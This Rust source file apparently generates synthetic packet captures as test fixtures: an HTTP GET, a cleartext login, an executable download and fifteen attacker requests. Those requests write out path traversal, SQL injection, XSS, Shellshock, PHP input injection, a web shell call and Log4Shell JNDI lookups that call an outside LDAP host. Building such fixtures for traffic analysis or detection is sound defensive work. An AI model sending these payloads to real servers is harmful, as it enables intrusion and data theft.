//! HTTP: visitors, downloads and attacks.

use crate::connection::{Connection, Side, flags};
use crate::hosts::{ATTACKER, CLIENT, OUTSIDE, SERVER};
use crate::{Capture, Tape};

const FORBIDDEN: &[u8] = b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n";

pub(super) fn captures() -> Vec<Capture> {
    vec![
        visit().capture(
            "http-get.pcap",
            "a request by curl in three segments, its user agent torn apart, and the answer",
        ),
        login().capture(
            "http-post.pcap",
            "a form with a password in clear text; head and body in two segments",
        ),
        program_download().capture(
            "http-exe-download.pcap",
            "a Windows program comes from a web server on port 8081",
        ),
        attacks().capture(
            "web-attacks.pcap",
            "fifteen requests of an attacker: traversal, injection of SQL, scripts and commands, Log4Shell, \
             Shellshock, a web shell, scanners",
        ),
    ]
}

/// An answer with a body.
pub(super) fn ok(kind: &str, body: &str) -> Vec<u8> {
    format!(
        "HTTP/1.1 200 OK\r\nServer: example\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

/// A visit to a web server; other scenarios use it where only the wrapping differs.
pub(super) fn visit() -> Tape {
    let mut tape = Tape::default();
    let mut connection = Connection::open(&mut tape, CLIENT.port(49_152), OUTSIDE.port(80));
    for part in [
        "GET /weather?city=Lima HTTP/1.1\r\nHost: www.example\r\nUser-Ag",
        "ent: cur",
        "l/8.5.0\r\nAccept: */*\r\n\r\n",
    ] {
        connection.say(&mut tape, Side::Client, flags::data(), part.as_bytes());
    }
    connection.say(&mut tape, Side::Server, flags::ack(), b"");
    connection.server(&mut tape, &ok("text/plain", "14 degrees, drizzle\n"));
    connection.close(&mut tape);
    tape
}

fn login() -> Tape {
    let mut tape = Tape::default();
    let mut connection = Connection::open(&mut tape, CLIENT.port(49_153), OUTSIDE.port(80));
    let body = "username=lima&password=letmein";
    let head = format!(
        "POST /login HTTP/1.1\r\nHost: www.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {}\r\n\r\n",
        body.len()
    );
    connection.client(&mut tape, head.as_bytes());
    connection.exchange(
        &mut tape,
        body.as_bytes(),
        b"HTTP/1.1 302 Found\r\nLocation: /home\r\nContent-Length: 0\r\n\r\n",
    );
    connection.close(&mut tape);
    tape
}

fn program_download() -> Tape {
    let mut tape = Tape::default();
    let mut connection = Connection::open(&mut tape, CLIENT.port(49_154), OUTSIDE.port(8081));
    let mut program = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    program.resize(64, 0);
    program.extend(b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21");
    program.extend(b"This program cannot be run in DOS mode.\r\r\n$");
    program.resize(4096, 0);
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n",
        program.len()
    );
    let answer = [head.as_bytes(), &program].concat();
    connection.exchange(
        &mut tape,
        b"GET /files/setup.bin HTTP/1.1\r\nHost: www.example:8081\r\n\r\n",
        &answer,
    );
    connection.close(&mut tape);
    tape
}

/// An attack: request line, a further header or nothing, body, and what the server answers.
struct Attack {
    line: &'static str,
    header: &'static str,
    body: &'static str,
    answer: Vec<u8>,
}

fn attack(line: &'static str, header: &'static str) -> Attack {
    Attack {
        line,
        header,
        body: "",
        answer: FORBIDDEN.to_vec(),
    }
}

fn attacks() -> Tape {
    let passwords = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n";
    let listing = "<html><head><title>Index of /backup</title></head></html>\n";
    let attacks = [
        Attack {
            answer: ok("text/plain", passwords),
            ..attack("GET /images/../../../../etc/passwd", "")
        },
        attack("GET /download?file=..%2f..%2f..%2fetc%2fhosts", ""),
        attack(
            "GET /item?id=1+UNION+ALL+SELECT+name,password+FROM+users",
            "",
        ),
        attack("GET /login?user=admin%27%20or%20%271%27=%271", ""),
        attack("GET /", "User-Agent: ${jndi:ldap://203.0.113.66:1389/a}"),
        attack(
            "GET /",
            "X-Api-Version: ${${lower:j}ndi:ldap://203.0.113.66/b}",
        ),
        attack("GET /cgi-bin/status", "User-Agent: () { :;}; /bin/id"),
        attack("GET /search?q=<script>alert(1)</script>", ""),
        attack("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
        Attack {
            body: "<?php system('id'); ?>",
            ..attack("POST /index.php?page=php://input", "Content-Length: 22")
        },
        Attack {
            answer: ok("text/plain", "www-data\n"),
            ..attack("GET /uploads/shell.php?cmd=whoami", "")
        },
        attack("GET /.git/config", ""),
        attack(
            "GET /item?id=1",
            "User-Agent: sqlmap/1.8#stable (https://sqlmap.org)",
        ),
        attack(
            "GET /",
            "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)",
        ),
        Attack {
            answer: ok("text/html", listing),
            ..attack("GET /backup/", "")
        },
    ];
    let mut tape = Tape::default();
    for (port, attack) in (40_001..).zip(attacks) {
        let mut connection = Connection::open(&mut tape, ATTACKER.port(port), SERVER.port(80));
        let mut request = format!("{} HTTP/1.1\r\nHost: 192.168.10.80\r\n", attack.line);
        if !attack.header.is_empty() {
            request.push_str(attack.header);
            request.push_str("\r\n");
        }
        request.push_str("\r\n");
        request.push_str(attack.body);
        connection.exchange(&mut tape, request.as_bytes(), &attack.answer);
        connection.close(&mut tape);
    }
    tape
}
